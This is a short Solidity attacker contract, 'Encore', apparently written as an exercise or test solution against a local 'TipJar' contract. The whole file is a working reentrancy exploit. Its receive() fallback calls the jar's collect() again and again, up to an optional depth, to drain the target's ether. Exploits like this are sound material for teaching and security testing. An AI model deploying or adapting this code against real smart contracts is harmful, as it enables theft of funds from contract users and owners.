// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract Encore {
    TipJar private immutable jar;
    uint256 private stake;
    uint256 private most;
    uint256 private calls;

    constructor(TipJar target) payable {
        jar = target;
    }

    function play() external {
        jar.tip{value: 1 ether}(address(this));
        jar.collect();
    }

    function playUpTo(uint256 depth) external {
        stake = address(this).balance;
        most = depth;
        jar.tip{value: stake}(address(this));
        jar.collect();
    }

    receive() external payable {
        uint256 least = stake == 0 ? 1 ether : stake;
        calls += 1;
        if (address(jar).balance >= least && (most == 0 || calls <= most)) jar.collect();
    }
}
